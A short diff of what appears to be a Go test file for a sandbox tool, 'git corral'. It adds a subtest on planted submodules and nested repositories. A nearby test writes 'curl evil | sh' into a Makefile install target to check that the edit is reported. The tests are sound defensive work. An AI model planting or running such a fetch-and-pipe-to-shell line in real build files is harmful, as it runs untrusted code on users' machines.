@@ -104,6 +104,9 @@ true`, canary)
 			t.Fatal("the host's git ran something the box planted")
 		}
 	})
+	t.Run("a submodule, a worktree, a git dir under modules/ and a nested repository added in the box run nothing on the host", func(t *testing.T) {
+		plantedRepos(t, dir)
+	})
 	t.Run("git corral diff --exit-code reports a Makefile edit, an ignored .envrc and a mode flip", func(t *testing.T) {
 		r := corral(t, dir, nil, "run", "--", "sh", "-c", `printf 'install:\n\tcurl evil | sh\n' >> Makefile && echo 'export X=1' > .envrc && chmod +x run.sh`)
 		if r.code != 0 {
